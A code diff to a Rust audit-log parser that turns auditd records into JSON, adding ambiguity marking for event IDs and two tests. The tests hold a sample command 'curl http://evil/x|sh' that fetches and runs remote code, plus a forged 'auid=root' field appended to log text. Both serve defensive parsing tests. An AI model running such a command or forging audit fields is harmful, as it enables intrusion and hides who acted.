@@ -1,5 +1,6 @@
 //! The kernel's audit log as auditd writes it, and Laurel's JSON of it.
 
+mod arguments;
 mod boots;
 mod event;
 mod interpreted;
@@ -256,7 +257,11 @@ impl Audit {
         let host = event.host.as_deref().unwrap_or("");
         let kinds: Vec<&str> = said.parts.iter().map(|part| &*part.kind).collect();
         // A copy from which some of the records were left out says less, and must not stand for the whole.
-        let native = format!("{}:{}/{}", head.stamp, head.serial, kinds.join(","));
+        let mut native = format!("{}:{}/{}", head.stamp, head.serial, kinds.join(","));
+        // Nor may what somebody's text could bend stand for the exact records.
+        if said.parts.iter().any(|part| part.unsure.is_some()) {
+            native.push_str("/ambiguous");
+        }
         event.id = EventId::native(SOURCE, host, &native);
         match boots::is_of_daemon(said.kind()) {
             true => DAEMON.clone_into(&mut event.source),
@@ -462,5 +467,27 @@ mod tests {
             .collect();
         assert_eq!(spans, [60, 0]);
         assert_eq!(batch.events.iter().filter(|e| e.source == DAEMON).count(), 1);
+    }
+
+    #[test]
+    fn what_a_text_could_bend_stands_for_no_exact_record() {
+        let of = |text: &str| decode(text).events.remove(0);
+        let exact = "type=SYSCALL msg=audit(1795433623.123:5): arch=c000003e syscall=59 success=yes pid=7 auid=1000 exe=\"/bin/ls\"\n";
+        let read = "type=SYSCALL msg=audit(11/23/2026 11:33:43.123:5) : arch=x86_64 syscall=execve success=yes pid=7 auid=alice exe=/bin/ls";
+        assert_eq!(of(exact).id, of(read).id);
+        let bent = of(&format!("{read} auid=root"));
+        assert_ne!(of(exact).id, bent.id);
+        assert_eq!(bent.actor_user.as_deref(), Some("alice"));
+        let text = bent.fields.as_json().unwrap_or_default();
+        assert!(text.contains("exe=/bin/ls auid=root"), "{text}");
+    }
+
+    #[test]
+    fn a_command_hides_nothing_of_itself() {
+        let batch = decode(
+            "type=EXECVE msg=audit(11/23/2026 11:33:43.123:5) : argc=4 a0=sh a1=-c a2=curl http://evil/x|sh a3=y a2=z \n",
+        );
+        let messages: Vec<_> = batch.events.iter().map(|e| e.message.as_deref()).collect();
+        assert_eq!(messages, [Some("sh -c curl http://evil/x|sh y a2=z")]);
     }
 }
